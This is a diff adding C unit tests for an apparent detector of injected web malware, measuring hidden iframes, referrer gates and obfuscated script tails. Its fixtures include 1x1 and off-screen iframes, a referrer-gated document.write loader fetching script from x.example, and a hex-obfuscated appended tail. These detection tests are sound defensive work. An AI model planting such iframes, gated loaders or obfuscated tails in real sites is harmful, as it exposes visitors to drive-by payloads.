@@ -200,6 +200,110 @@ static void test_script_lines(void **state)
 }
 
 /* on* handlers and javascript: URLs are blocks of their own. */
+/* Frames that carry nothing for their page (only a src without a query, a size, a style and
+ * borders) are bare; a frame inside an element hidden by style or placed off-screen is hidden
+ * by its parent; frames with a name, an id, a query or inside <noscript> are not bare. */
+static void test_bare_and_parent_hidden(void **state)
+{
+        (void)state;
+        struct pageshape m = page(
+                "<html><body>\n"
+                "<iframe src=http://a.example/x/stats.php width=1 height=1 "
+                "frameborder=0></iframe>\n"
+                "<span style=\"position:absolute; top:-1064px; width:331px\">"
+                "<iframe src=\"http://b.example/in.cgi\" width=\"250\" height=\"250\"></iframe>"
+                "</span>\n"
+                "<div style=\"display: none\"><p>text</p><iframe name=\"pay\" "
+                "src=\"https://c.example/\" width=\"400\" height=\"300\"></iframe></div>\n"
+                "<iframe src=\"https://d.example/ns.html?id=GTM-1\" width=\"0\" height=\"0\" "
+                "style=\"display:none\"></iframe>\n"
+                "<noscript><iframe src=\"http://e.example/\" width=\"1\" height=\"1\"></iframe>"
+                "</noscript>\n"
+                "<iframe src=\"https://f.example/embed\" width=\"560\" height=\"315\"></iframe>\n"
+                "<input style=\"position:absolute;left:-9999px\" name=\"trap\">"
+                "<iframe src=\"https://g.example/embed\" width=\"560\" height=\"315\"></iframe>\n"
+                "</body></html>",
+                NULL);
+        /* a, b, c, d, e, f, g have web sources; e is in <noscript> */
+        assert_int_equal(m.iframes, 6);
+        /* b and c are hidden by their parents only; the input hides nothing (no container) */
+        assert_int_equal(m.parent_iframes, 2);
+        assert_int_equal(m.hidden_iframes, 4);
+        /* a and b: c has a name, d a query */
+        assert_int_equal(m.bare_iframes, 2);
+}
+
+/* A gate reads the referrer, tests it and writes a script; a block that only passes the
+ * referrer on, or tests the cookies, is none. */
+static void test_gate(void **state)
+{
+        (void)state;
+        struct pageshape m = page(
+                "<html><head><script>var referrer = encodeURIComponent(document.referrer);"
+                "var u = 'http://x.example/j.php?r=' + referrer;"
+                "if (referrer !== null && referrer !== '') { document.write('<script src=\"' + u "
+                "+ '\"></' + 'script>'); }</script>\n"
+                "<script>document.write('<img src=\"//c.example/hit?r=' + "
+                "escape(document.referrer) "
+                "+ '\">');</script>\n"
+                "<script>if (document.cookie.indexOf('ok') < 0) { var s = "
+                "document.createElement('script'); s.src = '/consent.js'; "
+                "document.head.appendChild(s); }</script>\n"
+                "</head><body></body></html>",
+                NULL);
+        assert_int_equal(m.blocks, 3);
+        assert_int_equal(m.gate_blocks, 1);
+}
+
+/* The edges of a script: its last line, its first, or what follows its sourceMappingURL
+ * comment, when it is short beside the rest; the more anomalous is measured. */
+static void test_script_edges(void **state)
+{
+        (void)state;
+        char lib[6000];
+        size_t k = 0;
+        struct pageshape m = {0};
+
+        for (int i = 0; i < 60; i++)
+                k += (size_t)snprintf(lib + k, sizeof(lib) - k,
+                                      "function part%d(list) { return list.map(function (x) "
+                                      "{ return x + %d; }); }\n",
+                                      i, i);
+        const char *tail = "var _0xaae8=[\"\",\"\\x6A\\x6F\\x69\\x6E\",\"\\x72\\x65\\x76\\x65"
+                           "\\x72\\x73\\x65\",\"\\x73\\x70\\x6C\\x69\\x74\",\"\\x3E\\x74\\x70"
+                           "\\x69\\x72\\x63\\x73\\x2F\\x3C\\x3E\\x22\\x73\\x6A\",\"\\x77\\x72"
+                           "\\x69\\x74\\x65\"];document[_0xaae8[5]](_0xaae8[4][_0xaae8[3]]"
+                           "(_0xaae8[0])[_0xaae8[2]]()[_0xaae8[1]](_0xaae8[0]))\n";
+        char text[8000];
+
+        /* the library alone: its lines are plain */
+        pageshape_script_edges(lib, k, &m);
+        assert_int_equal(m.edge_sinks, 0);
+        assert_int_equal(m.edge_hex_ids_pm, 0);
+        /* appended as its last line */
+        snprintf(text, sizeof(text), "%s%s", lib, tail);
+        memset(&m, 0, sizeof(m));
+        pageshape_script_edges(text, strlen(text), &m);
+        assert_true(m.edge_bytes >= 100);
+        assert_true(m.edge_hex_ids_pm >= 300);
+        assert_true(m.edge_encoded >= 20);
+        /* the call through document[...] computed from the table */
+        assert_int_equal(m.edge_sinks, 1);
+        /* after a sourceMappingURL comment, on more than one line */
+        snprintf(text, sizeof(text), "%s//# sourceMappingURL=lib.js.map\n%s\n\n", lib, tail);
+        memset(&m, 0, sizeof(m));
+        pageshape_script_edges(text, strlen(text), &m);
+        assert_true(m.edge_hex_ids_pm >= 300);
+        /* a one-line text is all edge: nothing */
+        memset(&m, 0, sizeof(m));
+        pageshape_script_edges(tail, strlen(tail), &m);
+        assert_int_equal(m.edge_bytes, 0);
+        /* hostile: no newline, unclosed brackets */
+        memset(&m, 0, sizeof(m));
+        pageshape_script_edges("document[document[document[", 27, &m);
+        assert_int_equal(m.edge_bytes, 0);
+}
+
 static void test_handlers(void **state)
 {
         (void)state;
@@ -266,7 +370,8 @@ int main(void)
                 cmocka_unit_test(test_sources),     cmocka_unit_test(test_carrier_and_reader),
                 cmocka_unit_test(test_worst_block), cmocka_unit_test(test_script_lines),
                 cmocka_unit_test(test_handlers),    cmocka_unit_test(test_merge),
-                cmocka_unit_test(test_hostile),
+                cmocka_unit_test(test_hostile),     cmocka_unit_test(test_bare_and_parent_hidden),
+                cmocka_unit_test(test_gate),        cmocka_unit_test(test_script_edges),
         };
         return cmocka_run_group_tests(tests, NULL, NULL);
 }
